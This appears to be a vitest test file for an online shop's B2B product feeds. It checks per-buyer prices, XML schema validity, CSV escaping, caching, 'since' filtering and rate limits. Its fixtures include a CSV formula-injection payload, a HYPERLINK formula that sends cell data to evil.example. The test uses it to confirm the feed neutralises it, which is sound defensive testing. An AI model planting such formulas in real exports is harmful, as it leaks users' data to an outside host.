import { execFileSync } from "node:child_process";
import { mkdtempSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import {
  apiErrorSchema,
  availabilityFeedSchema,
  cartResponseSchema,
  categoryFeedSchema,
  feedKeyResponseSchema,
  productFeedSchema,
  productListResponseSchema,
  sessionTokensResponseSchema,
} from "@dukan/contract";
import { parse as parseCsv } from "csv-parse/sync";
import { eq, inArray, sql } from "drizzle-orm";
import { afterAll, beforeAll, describe, expect, it, vi } from "vitest";
import { defaultScope } from "../accounts/user.ts";
import { hashPassword } from "../accounts/passwords.ts";
import { createApi } from "../app.ts";
import { createChangeFeed } from "../changes/feed.ts";
import { seedDemoCatalogue } from "../catalogue/seed.ts";
import type { Database } from "../db/client.ts";
import { users } from "../accounts/schema.ts";
import { brands, products } from "../catalogue/schema.ts";
import { customerRebates } from "../pricing/schema.ts";
import { demoAccounts, seedDemoAccounts } from "../demo/accounts.ts";
import { testApiOptions } from "../testing/api.ts";
import { openTestDatabase, testDatabaseKind } from "../testing/database.ts";

let database: Database;
let api: ReturnType<typeof createApi>;
const tokens = { person: "", company: "", other: "" };
/** What a nasty product is called: everything XML, JSON and CSV must carry (or safely leave out). */
const NASTY = `A & B <b>"quoted" 'single'</b> ]]> \u0001\u0007 😀 čćžšđ ČĆŽŠĐ, two\r\nlines`;
let nastyId = 0;
/** The other company's quantity tiers: 35 % from 10 pieces of this product, 40 % from 50 of its brand. */
const tiers = { productId: 0, brandId: 0, otherOfBrand: 0 };
/** The nasty product's English name: what a spreadsheet would run as a formula. */
const FORMULA = '=HYPERLINK("http://evil.example/?d="&A1;"Klik")';
const withoutControls = (text: string) => text.replaceAll("\u0001", "").replaceAll("\u0007", "");

beforeAll(async () => {
  database = await openTestDatabase();
  await seedDemoCatalogue(database.db, { products: 30, now: new Date("2026-11-01T00:00:00Z") });
  await seedDemoAccounts(database.db);
  const passwordHash = await hashPassword("Druga-Tvrtka-2026");
  await database.db.insert(users).values({
    type: "company",
    email: "druga@example.com",
    name: "Druga",
    passwordHash,
    emailConfirmedAt: new Date(),
    scope: defaultScope("company"),
    companyName: "Druga d.o.o.",
    companyOib: "12345678903",
  });
  const [first] = await database.db
    .select({ id: products.id })
    .from(products)
    .orderBy(products.id)
    .limit(1);
  nastyId = first?.id ?? 0;
  await database.db
    .update(products)
    .set({ nameHr: NASTY, nameEn: FORMULA, descriptionEn: NASTY, mpn: `MPN,"${NASTY}"` })
    .where(eq(products.id, nastyId));
  // The limits are shared in the database for the whole file: its tests' many requests with one
  // key would pass 60 a minute. The limit itself is tested with its own API and a fresh key.
  api = createApi(database, { ...testApiOptions(), feedRequestsPerMinute: 100_000 });
  const logins = {
    person: demoAccounts.person,
    company: demoAccounts.company,
    other: { email: "druga@example.com", password: "Druga-Tvrtka-2026" },
  };
  for (const who of ["person", "company", "other"] as const) {
    const response = await api.request("/api/login", {
      method: "POST",
      body: JSON.stringify(logins[who]),
      headers: { "content-type": "application/json" },
    });
    tokens[who] = sessionTokensResponseSchema.parse(await response.json()).data.token;
  }
  // The other company: 30 % on one brand only; the demo company keeps its seeded rebates.
  const [other] = await database.db
    .select()
    .from(users)
    .where(eq(users.email, "druga@example.com"));
  const [brand] = await database.db.select().from(brands).orderBy(brands.id).limit(1);
  await database.db
    .insert(customerRebates)
    .values({ userId: other?.id ?? 0, brandId: brand?.id ?? null, percent: 30 });
  const ofBrand = await database.db
    .select({ id: products.id })
    .from(products)
    .where(eq(products.brandId, brand?.id ?? 0))
    .orderBy(products.id)
    .limit(2);
  Object.assign(tiers, {
    productId: ofBrand[0]?.id ?? 0,
    brandId: brand?.id ?? 0,
    otherOfBrand: ofBrand[1]?.id ?? 0,
  });
  await database.db
    .update(products)
    .set({ stock: 1_000, active: true })
    .where(eq(products.id, tiers.productId));
  await database.db.insert(customerRebates).values([
    { userId: other?.id ?? 0, productId: tiers.productId, percent: 35, minQuantity: 10 },
    { userId: other?.id ?? 0, brandId: tiers.brandId, percent: 40, minQuantity: 50 },
    // Paid by card only: a feed prices for any payment method, so it lists none of these.
    { userId: other?.id ?? 0, percent: 50, minQuantity: 5, paymentMethod: "card" },
  ]);
}, 60_000);
afterAll(async () => database?.close());

const as = (who: keyof typeof tokens) => ({ authorization: `Bearer ${tokens[who]}` });
const keyOf = async (who: keyof typeof tokens) =>
  feedKeyResponseSchema.parse(
    await (await api.request("/api/me/feed-key", { headers: as(who) })).json(),
  ).data.key;
const feed = (path: string, key: string, headers: Record<string, string> = {}, through = api) =>
  through.request(
    `/api/b2b/${path}${path.includes("?") ? "&" : "?"}key=${encodeURIComponent(key)}`,
    {
      headers,
    },
  );
const errorOf = async (response: Response) => apiErrorSchema.parse(await response.json()).error;

/** Validates an XML document against an XSD with Debian's xmllint; answers its complaints (empty when valid). */
function xmllint(xml: string, xsd: string): string {
  const dir = mkdtempSync(join(tmpdir(), "feed-"));
  writeFileSync(join(dir, "feed.xml"), xml);
  writeFileSync(join(dir, "feed.xsd"), xsd);
  try {
    execFileSync("xmllint", ["--noout", "--schema", join(dir, "feed.xsd"), join(dir, "feed.xml")], {
      stdio: "pipe",
    });
    return "";
  } catch (error) {
    return String((error as { stderr?: Buffer }).stderr ?? error);
  }
}

describe(`B2B feeds on ${testDatabaseKind}`, () => {
  it("give a legal entity one key, made on first use; a person none; nobody without logging in", async () => {
    const key = await keyOf("company");
    expect(key).toMatch(/^dkf_[A-Za-z0-9_-]{43}$/);
    expect(await keyOf("company")).toBe(key);
    const answer = feedKeyResponseSchema.parse(
      await (await api.request("/api/me/feed-key", { headers: as("company") })).json(),
    ).data;
    expect(answer.feeds).toContainEqual({
      name: "products",
      format: "csv",
      url: "http://shop.test/api/b2b/products.csv",
    });
    const person = await api.request("/api/me/feed-key", { headers: as("person") });
    expect(person.status).toBe(403);
    expect((await errorOf(person)).code).toBe("feed_key_not_for_persons");
    expect((await api.request("/api/me/feed-key")).status).toBe(401);
  });

  it("carry each buyer's own purchase price, the one the shop shows them, side by side", async () => {
    for (const who of ["company", "other"] as const) {
      const data = productFeedSchema.parse(
        await (await feed("products.json", await keyOf(who))).json(),
      ).data;
      const listed = productListResponseSchema.parse(
        await (await api.request("/api/products?per_page=48", { headers: as(who) })).json(),
      ).data;
      expect(listed.length).toBeGreaterThan(10);
      for (const product of listed) {
        expect(
          data.find((p) => p.id === product.id)?.purchase_price_cents,
          `${who} ${product.item_code}`,
        ).toBe(product.your_price_cents);
      }
    }
    const [mine, theirs] = await Promise.all(
      (["company", "other"] as const).map(
        async (who) =>
          productFeedSchema.parse(await (await feed("products.json", await keyOf(who))).json())
            .data,
      ),
    );
    expect(mine?.some((p, i) => p.purchase_price_cents !== theirs?.[i]?.purchase_price_cents)).toBe(
      true,
    );
    const product = mine?.find((p) => p.id === nastyId);
    expect(product).toMatchObject({
      name_hr: NASTY,
      url_hr: expect.stringMatching(/^http:\/\/shop\.test\/[^/]+\/[^/]+$/),
    });
    expect(product?.pictures.every((url) => url.startsWith("http://shop.test/"))).toBe(true);
  });

  it("carry each buyer's quantity tiers: the price the cart gives for that many pieces, in every format", async () => {
    const key = await keyOf("other");
    const data = productFeedSchema.parse(await (await feed("products.json", key)).json()).data;
    const tiered = data.find((p) => p.id === tiers.productId);
    expect(tiered?.rebate_percent).toBe(30);
    expect(
      tiered?.quantity_prices.map(({ min_quantity, rebate_percent, counts }) => ({
        min_quantity,
        rebate_percent,
        counts,
      })),
    ).toEqual([
      { min_quantity: 10, rebate_percent: 35, counts: "product" },
      { min_quantity: 50, rebate_percent: 40, counts: "brand" },
    ]);
    expect(data.find((p) => p.id === tiers.otherOfBrand)?.quantity_prices).toMatchObject([
      { min_quantity: 50, rebate_percent: 40, counts: "brand" },
    ]);
    // Other brands have no tier; the demo company has none at all.
    expect(
      data.filter((p) => p.quantity_prices.length > 0).every((p) => p.brand === tiered?.brand),
    ).toBe(true);
    const mine = productFeedSchema.parse(
      await (await feed("products.json", await keyOf("company"))).json(),
    ).data;
    expect(mine.every((p) => p.quantity_prices.length === 0)).toBe(true);

    // The cart prices 10 pieces (and 9) as the feed said.
    const cartLine = async (quantity: number) => {
      await api.request("/api/cart", { method: "DELETE", headers: as("other") });
      const added = await api.request("/api/cart/lines", {
        method: "POST",
        headers: { ...as("other"), "content-type": "application/json" },
        body: JSON.stringify({ product_id: tiers.productId, quantity }),
      });
      expect(added.status).toBeLessThan(300);
      const cart = cartResponseSchema.parse(
        await (await api.request("/api/cart", { headers: as("other") })).json(),
      ).data;
      return cart.lines.find((line) => line.product.id === tiers.productId)?.unit_price_cents;
    };
    expect(await cartLine(10)).toBe(tiered?.quantity_prices[0]?.purchase_price_cents);
    expect(await cartLine(9)).toBe(tiered?.purchase_price_cents);
    expect(await cartLine(50)).toBe(tiered?.quantity_prices[1]?.purchase_price_cents);
    await api.request("/api/cart", { method: "DELETE", headers: as("other") });

    // XML (valid against its schema) and CSV (a JSON array in one field) carry the same tiers.
    const xml = await (await feed("products.xml", key)).text();
    expect(xmllint(xml, await (await api.request("/api/b2b/products.xsd")).text())).toBe("");
    expect(xml).toContain(
      `<quantity_prices><tier><min_quantity>10</min_quantity><purchase_price_cents>${tiered?.quantity_prices[0]?.purchase_price_cents}</purchase_price_cents><rebate_percent>35</rebate_percent><counts>product</counts></tier>`,
    );
    const csv = parseCsv(await (await feed("products.csv", key)).text(), {
      columns: true,
      record_delimiter: "\r\n",
    }) as Record<string, string>[];
    expect(
      JSON.parse(csv.find((r) => Number(r.id) === tiers.productId)?.quantity_prices ?? ""),
    ).toEqual(tiered?.quantity_prices);
  });

  it("write well-formed XML valid against its schema, and RFC 4180 CSV with the same content", async () => {
    const key = await keyOf("company");
    for (const name of ["products", "categories", "availability"] as const) {
      const xml = await (await feed(`${name}.xml`, key)).text();
      const xsd = await (await api.request(`/api/b2b/${name}.xsd`)).text();
      expect(xmllint(xml, xsd), name).toBe("");
      const json = await (await feed(`${name}.json`, key)).json();
      const records = {
        products: productFeedSchema,
        categories: categoryFeedSchema,
        availability: availabilityFeedSchema,
      }[name].parse(json).data;
      const csv = parseCsv(await (await feed(`${name}.csv`, key)).text(), {
        columns: true,
        record_delimiter: "\r\n",
      }) as Record<string, string>[];
      expect(csv.map((r) => Number(r.id))).toEqual(records.map((r) => r.id));
    }
    // The nasty name: escaped in XML (its control characters left out), kept whole in CSV and JSON.
    const xml = await (await feed("products.xml", key)).text();
    expect(xml).toContain(
      "<name_hr>A &amp; B &lt;b&gt;&quot;quoted&quot; &apos;single&apos;&lt;/b&gt; ]]&gt;  😀 čćžšđ ČĆŽŠĐ, two\r\nlines</name_hr>",
    );
    const csv = parseCsv(await (await feed("products.csv", key)).text(), {
      columns: true,
      record_delimiter: "\r\n",
    }) as Record<string, string>[];
    const row = csv.find((r) => Number(r.id) === nastyId);
    expect(row?.name_hr).toBe(withoutControls(NASTY));
    expect(row?.mpn).toBe(withoutControls(`MPN,"${NASTY}"`));
    // A name a spreadsheet would run as a formula is text there (OWASP: a `'` in front); JSON keeps it as it is.
    expect(row?.name_en).toBe(`'${FORMULA}`);
    expect(
      productFeedSchema
        .parse(await (await feed("products.json", key)).json())
        .data.find((p) => p.id === nastyId)?.name_en,
    ).toBe(FORMULA);
    expect(JSON.parse(row?.specifications ?? "")).toEqual(expect.any(Array));
  });

  it("answer 304 to an unchanged ETag or time, and a new ETag once the catalogue changes", async () => {
    const key = await keyOf("company");
    const first = await feed("availability.json", key);
    const etag = first.headers.get("etag") ?? "";
    const lastModified = first.headers.get("last-modified") ?? "";
    expect(first.headers.get("cache-control")).toContain("private");
    const unchanged = await feed("availability.json", key, { "if-none-match": etag });
    expect(unchanged.status).toBe(304);
    expect(await unchanged.text()).toBe("");
    // Compared weakly (RFC 9110): with or without W/, alone or in a list of tags a client keeps.
    const opaque = etag.replace(/^W\//, "");
    for (const ifNoneMatch of [
      `W/${opaque}`,
      opaque,
      `"older", ${etag}`,
      `"older",W/${opaque} , "other"`,
      "*",
    ])
      expect((await feed("availability.json", key, { "if-none-match": ifNoneMatch })).status).toBe(
        304,
      );
    expect((await feed("availability.json", key, { "if-none-match": `"older"` })).status).toBe(200);
    expect(
      (await feed("availability.json", key, { "if-modified-since": lastModified })).status,
    ).toBe(304);
    // Another format or buyer is another answer.
    expect((await feed("availability.csv", key, { "if-none-match": etag })).status).toBe(200);
    await database.db
      .update(products)
      .set({ stock: sql`stock + 1`, updatedAt: new Date(Date.now() + 2_000) })
      .where(eq(products.id, nastyId));
    // What the answers depend on is kept a second: a change shows after it.
    vi.useFakeTimers({ toFake: ["Date"], now: Date.now() + 1_500 });
    const changed = await Promise.resolve(
      feed("availability.json", key, { "if-none-match": etag }),
    ).finally(() => vi.useRealTimers());
    expect(changed.status).toBe(200);
    expect(changed.headers.get("etag")).not.toBe(etag);
  });

  it("give only what changed after `since`, a product taken out once as inactive", async () => {
    const key = await keyOf("company");
    const since = new Date(Date.now() + 10_000);
    const ids = (
      await database.db
        .select({ id: products.id })
        .from(products)
        .where(eq(products.active, true))
        .orderBy(products.id)
        .limit(4)
    )
      .map((p) => p.id)
      .slice(1);
    await database.db
      .update(products)
      .set({ stock: 7, updatedAt: new Date(since.getTime() + 1_000) })
      .where(inArray(products.id, ids));
    await database.db
      .update(products)
      .set({ active: false, updatedAt: new Date(since.getTime() + 2_000) })
      .where(eq(products.id, ids[2] ?? 0));
    // `since` a little in the future is allowed (clock skew); the changes are dated after it.
    const changed = availabilityFeedSchema.parse(
      await (await feed(`availability.json?since=${since.toISOString()}`, key)).json(),
    );
    expect(changed.meta.since).toBe(since.toISOString());
    expect(changed.data.map((p) => [p.id, p.active])).toEqual([
      [ids[0], true],
      [ids[1], true],
      [ids[2], false],
    ]);
    const products_ = productFeedSchema.parse(
      await (await feed(`products.json?since=${since.toISOString()}`, key)).json(),
    ).data;
    expect(products_.map((p) => p.id)).toEqual(ids);
    const whole = availabilityFeedSchema.parse(
      await (await feed("availability.json", key)).json(),
    ).data;
    expect(whole.some((p) => p.id === ids[2])).toBe(false);
  });

  it("write a `since` answer's records as the whole feed does, each buyer's price their own, a change at once", async () => {
    const since = new Date(Date.now() + 20_000);
    const ids = [nastyId, nastyId + 5, nastyId + 9];
    await database.db
      .update(products)
      .set({ updatedAt: new Date(since.getTime() + 1_000) })
      .where(inArray(products.id, ids));
    /** Each product's record in a feed's text, by id: a JSON object, an XML element or a CSV row. */
    const records = (format: string, body: string): Map<number, string> => {
      if (format === "json") {
        const data = (JSON.parse(body) as { data: Array<{ id: number }> }).data;
        return new Map(data.map((r) => [r.id, JSON.stringify(r)]));
      }
      if (format === "xml")
        return new Map(
          [...body.matchAll(/<product><id>(\d+)<\/id>[\s\S]*?<\/product>/g)].map((m) => [
            Number(m[1]),
            m[0],
          ]),
        );
      const rows = parseCsv(body, { columns: false, relax_quotes: false }) as string[][];
      return new Map(rows.slice(1).map((row) => [Number(row[0]), JSON.stringify(row)]));
    };
    const keys = { company: await keyOf("company"), other: await keyOf("other") };
    for (const format of ["json", "xml", "csv"]) {
      for (const who of ["company", "other"] as const) {
        const whole = records(format, await (await feed(`products.${format}`, keys[who])).text());
        // Twice: the first writes the records and keeps them, the second writes them from what was kept.
        for (let round = 0; round < 2; round++) {
          const changed = records(
            format,
            await (await feed(`products.${format}?since=${since.toISOString()}`, keys[who])).text(),
          );
          expect([...changed.keys()], `${format} ${who}`).toEqual(ids);
          for (const id of ids)
            expect(changed.get(id), `${format} ${who} ${id}`).toBe(whole.get(id));
        }
      }
    }
    const prices = async (who: "company" | "other") =>
      productFeedSchema
        .parse(await (await feed(`products.json?since=${since.toISOString()}`, keys[who])).json())
        .data.map((p) => p.purchase_price_cents);
    expect(await prices("company")).not.toEqual(await prices("other"));

    // A change of a kept product shows in the next answer.
    await database.db
      .update(products)
      .set({ stock: 321, updatedAt: new Date(since.getTime() + 2_000) })
      .where(eq(products.id, ids[1] ?? 0));
    for (const format of ["json", "xml", "csv"]) {
      const body = await (
        await feed(`products.${format}?since=${since.toISOString()}`, keys.company)
      ).text();
      expect([...records(format, body).keys()], format).toEqual([ids[0], ids[2], ids[1]]);
      expect(records(format, body).get(ids[1] ?? 0), format).toMatch(/321/);
    }
  });

  it("write an answer sent whole into a buffer used again only once the storefront says it has left", async () => {
    const key = await keyOf("company");
    const left: Array<() => void> = [];
    const url = `http://shop.test/api/b2b/products.json?since=${encodeURIComponent(new Date(Date.now() - 60_000).toISOString())}&key=${key}`;
    const answer = await api.fetch(new Request(url), {
      clientAddress: "127.0.0.1",
      onResponseSent: (done: () => void) => void left.push(done),
    });
    expect(answer.status).toBe(200);
    productFeedSchema.parse(await answer.json());
    expect(left).toHaveLength(1);
    // A 304 writes nothing: nothing to be told.
    const etag = answer.headers.get("etag") ?? "";
    const unchanged = await api.fetch(new Request(url, { headers: { "if-none-match": etag } }), {
      clientAddress: "127.0.0.1",
      onResponseSent: (done: () => void) => void left.push(done),
    });
    expect(unchanged.status).toBe(304);
    expect(left).toHaveLength(1);
  });

  it("keep whole products feeds, the same records as read anew, each buyer's price their own, a change at once", async () => {
    // The shop as started (index.ts): with the change feed, whole products feeds are kept on disk.
    const kept = createApi(database, {
      ...testApiOptions(),
      changes: createChangeFeed(database.pool, database.writeEpoch),
    });
    const cachedFeed = (path: string, key: string) =>
      kept.request(
        `/api/b2b/${path}${path.includes("?") ? "&" : "?"}key=${encodeURIComponent(key)}`,
      );
    /** A feed's records without its head (the time it was made). */
    const body = async (response: Response) =>
      (await response.text()).replace(/generated_at="[^"]*"|"generated_at":"[^"]*"/, "");
    const keys = { company: await keyOf("company"), other: await keyOf("other") };
    for (const format of ["json", "xml", "csv"]) {
      for (const who of ["company", "other"] as const) {
        const anew = await body(await feed(`products.${format}`, keys[who]));
        // Twice: the first reads and keeps the batches, the second reads them back.
        for (let round = 0; round < 2; round++)
          expect(
            await body(await cachedFeed(`products.${format}`, keys[who])),
            `${format} ${who}`,
          ).toBe(anew);
      }
    }

    // A price, a product taken out and a category renamed: each shows in the next whole feed.
    const [product] = await database.db
      .select()
      .from(products)
      .where(eq(products.active, true))
      .orderBy(products.id)
      .offset(3)
      .limit(1);
    const [gone] = await database.db
      .select()
      .from(products)
      .where(eq(products.active, true))
      .orderBy(products.id)
      .offset(4)
      .limit(1);
    await database.db
      .update(products)
      .set({ retailPriceCents: 987_654 })
      .where(eq(products.id, product?.id ?? 0));
    await database.db
      .update(products)
      .set({ active: false })
      .where(eq(products.id, gone?.id ?? 0));
    await database.db.execute(
      sql`update categories set slug_en = slug_en || '-renamed' where id = ${product?.categoryId ?? 0}`,
    );
    for (const format of ["json", "xml", "csv"]) {
      const anew = await body(await feed(`products.${format}`, keys.company));
      expect(anew, format).toContain("987654");
      expect(anew, format).toContain("-renamed");
      expect(await body(await cachedFeed(`products.${format}`, keys.company)), format).toBe(anew);
    }
    const ids = productFeedSchema
      .parse(await (await cachedFeed("products.json", keys.company)).json())
      .data.map((p) => p.id);
    expect(ids).not.toContain(gone?.id);
    await database.db
      .update(products)
      .set({ active: true })
      .where(eq(products.id, gone?.id ?? 0));
    await database.db.execute(
      sql`update categories set slug_en = replace(slug_en, '-renamed', '') where id = ${product?.categoryId ?? 0}`,
    );
  });

  it("refuse a bad `since`, a missing, malformed or replaced key, and an unknown extension, each with a clear answer", async () => {
    const key = await keyOf("company");
    for (const since of [
      "yesterday",
      "2026-13-45",
      "1900-01-01T00:00:00Z",
      new Date(Date.now() + 86_400_000).toISOString(),
    ]) {
      const response = await feed(`products.json?since=${encodeURIComponent(since)}`, key, {
        "accept-language": "en",
      });
      expect(response.status, since).toBe(400);
      expect((await errorOf(response)).fields?.since).toMatch(/ISO 8601/);
    }
    expect((await api.request("/api/b2b/products.json")).status).toBe(401);
    const malformed = await feed("products.xml", "not-a-key", { "accept-language": "en" });
    expect(malformed.status).toBe(401);
    expect((await errorOf(malformed)).message).toMatch(/feed key/);
    expect(
      (await api.request("/api/b2b/products.json", { headers: { authorization: `Bearer ${key}` } }))
        .status,
    ).toBe(200);
    expect((await feed("products.txt", key)).status).toBe(404);

    const replaced = feedKeyResponseSchema.parse(
      await (
        await api.request("/api/me/feed-key", {
          method: "POST",
          body: "{}",
          headers: { ...as("company"), "content-type": "application/json" },
        })
      ).json(),
    ).data.key;
    expect(replaced).not.toBe(key);
    expect((await feed("categories.json", key)).status).toBe(401);
    expect((await feed("categories.json", replaced)).status).toBe(200);
    // One buyer's key is not another's: each answers with its holder's prices only (checked above); a key is not an access token.
    expect(
      (await api.request("/api/me/feed-key", { headers: { authorization: `Bearer ${replaced}` } }))
        .status,
    ).toBe(401);
  });

  it("compress as the client asks, the same bytes underneath", async () => {
    const key = await keyOf("company");
    const plain = await (await feed("categories.xml", key)).text();
    for (const coding of ["gzip", "br"] as const) {
      const response = await feed("categories.xml", key, {
        "accept-encoding": `${coding}, deflate`,
      });
      expect(response.headers.get("content-encoding")).toBe(coding);
      const bytes = Buffer.from(await response.arrayBuffer());
      const { gunzipSync, brotliDecompressSync } = await import("node:zlib");
      const unpacked = (
        coding === "gzip" ? gunzipSync(bytes) : brotliDecompressSync(bytes)
      ).toString("utf8");
      const undated = (xml: string) => xml.replace(/generated_at="[^"]+"/, "");
      expect(undated(unpacked)).toBe(undated(plain));
    }
  });

  it("count each key's use per day, and stop a key past 60 requests a minute with Retry-After", async () => {
    // A fresh key: its minute starts now.
    const key = feedKeyResponseSchema.parse(
      await (
        await api.request("/api/me/feed-key", {
          method: "POST",
          body: "{}",
          headers: { ...as("other"), "content-type": "application/json" },
        })
      ).json(),
    ).data.key;
    const limiting = createApi(database, testApiOptions());
    const statuses: number[] = [];
    for (let n = 0; n < 61; n++)
      statuses.push((await feed("categories.json", key, {}, limiting)).status);
    expect(statuses.filter((s) => s === 200)).toHaveLength(60);
    const limited = await feed("categories.json", key, {}, limiting);
    expect(limited.status).toBe(429);
    expect(Number(limited.headers.get("retry-after"))).toBeGreaterThan(0);
    const answer = feedKeyResponseSchema.parse(
      await (await limiting.request("/api/me/feed-key", { headers: as("other") })).json(),
    ).data;
    expect(answer.usage[0]?.requests).toBeGreaterThanOrEqual(60);
    expect(answer.last_used_at).not.toBeNull();
  });
});
